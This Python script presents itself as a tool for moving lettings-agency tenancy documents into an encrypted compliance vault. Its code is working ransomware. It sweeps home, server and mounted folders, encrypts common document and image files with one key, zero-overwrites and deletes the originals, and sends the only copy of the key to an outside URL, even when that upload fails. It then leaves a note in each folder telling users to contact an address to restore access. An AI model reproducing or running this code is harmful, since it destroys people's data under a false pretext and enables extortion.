#!/usr/bin/env python3
"""Move tenancy paperwork into the encrypted compliance vault.

Signed ASTs, right-to-rent ID scans, guarantor forms and reference
reports end up scattered across desktops and the shared drive. Under the
retention policy they must be held encrypted, with the vault key escrowed
centrally rather than left on branch machines. This sweeps the usual
locations, seals each document into a .vault file next to where it was,
removes the plaintext and leaves a note in each folder explaining where
the documents went.

    ./lease_document_vault.py --branch HAR            # default locations
    ./lease_document_vault.py --branch HAR /mnt/share # extra roots
"""
import argparse
import json
import logging
import os
import queue
import sys
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("doc-vault")

ESCROW_URL = os.environ.get("VAULT_ESCROW_URL", "https://escrow.lettings-vault.example/v1/keys")
DEFAULT_ROOTS = ["~/Documents", "~/Desktop", "~/Downloads", "/srv/lettings", "/mnt"]
DOC_TYPES = {".pdf", ".doc", ".docx", ".odt", ".xls", ".xlsx", ".ods", ".csv", ".rtf",
             ".jpg", ".jpeg", ".png", ".heic", ".tif", ".txt", ".msg", ".eml", ".zip"}
SKIP_DIRS = {".git", "node_modules", ".cache", "__pycache__", "lost+found"}
SUFFIX = ".vault"
NOTE_NAME = "DOCUMENTS-MOVED-TO-VAULT.txt"
NOTE = """Documents in this folder were sealed into the compliance vault ({count} files).

They cannot be opened from this machine. To restore access, contact the
records team at records-restore@lettings-vault.example quoting vault ID

    {vault_id}

Do not rename or delete the .vault files; they are needed for restoration.
"""


class KeyEscrow(threading.Thread):
    """Deposits the vault key centrally; retries until accepted."""

    def __init__(self, vault_id, branch, key):
        super().__init__(name="escrow", daemon=False)
        self._payload = {"vault": vault_id, "branch": branch, "host": os.uname().nodename,
                         "key": key.hex()}
        self.done = threading.Event()

    def run(self):
        for attempt in range(1, 31):
            try:
                r = requests.post(ESCROW_URL, json=self._payload, timeout=20)
                if r.ok:
                    self.done.set()
                    break
            except requests.RequestException as exc:
                log.debug("escrow attempt %d: %s", attempt, exc)
            time.sleep(min(60, attempt * 5))
        self._payload = None


def candidates(roots):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base, onerror=lambda e: None):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in DOC_TYPES and not p.is_symlink():
                    yield p


def seal(path, aead, vault_id):
    data = path.read_bytes()
    nonce = os.urandom(12)
    sealed = aead.encrypt(nonce, data, vault_id.encode())
    out = path.with_name(path.name + SUFFIX)
    with open(out, "wb") as fh:
        fh.write(b"LVLT1" + nonce + sealed)
    size = len(data)
    with open(path, "r+b", buffering=0) as fh:
        fh.write(b"\0" * size)
        os.fsync(fh.fileno())
    path.unlink()
    return size


def leave_notes(folders, vault_id):
    for folder, count in folders.items():
        try:
            (folder / NOTE_NAME).write_text(NOTE.format(count=count, vault_id=vault_id))
        except OSError:
            pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal tenancy documents into the compliance vault")
    ap.add_argument("roots", nargs="*", help="additional folders to sweep")
    ap.add_argument("--branch", required=True)
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    vault_id = f"{args.branch}-{uuid.uuid4().hex[:12].upper()}"
    key = AESGCM.generate_key(bit_length=256)
    escrow = KeyEscrow(vault_id, args.branch, key)
    escrow.start()
    aead = AESGCM(key)
    del key

    results = queue.Queue()

    def work(p):
        try:
            results.put((p.parent, seal(p, aead, vault_id)))
        except (OSError, MemoryError) as exc:
            log.debug("skipped %s: %s", p, exc)

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for p in candidates(DEFAULT_ROOTS + args.roots):
            pool.submit(work, p)

    folders, total, nbytes = {}, 0, 0
    while not results.empty():
        folder, size = results.get()
        folders[folder] = folders.get(folder, 0) + 1
        total += 1
        nbytes += size
    leave_notes(folders, vault_id)
    log.info("vault %s: sealed %d documents (%.1f MB) in %d folders",
             vault_id, total, nbytes / 1e6, len(folders))
    with open(f"vault-{vault_id}.json", "w") as fh:
        json.dump({"vault": vault_id, "folders": {str(k): v for k, v in folders.items()}}, fh)
    escrow.join()
    return 0


if __name__ == "__main__":
    sys.exit(main())
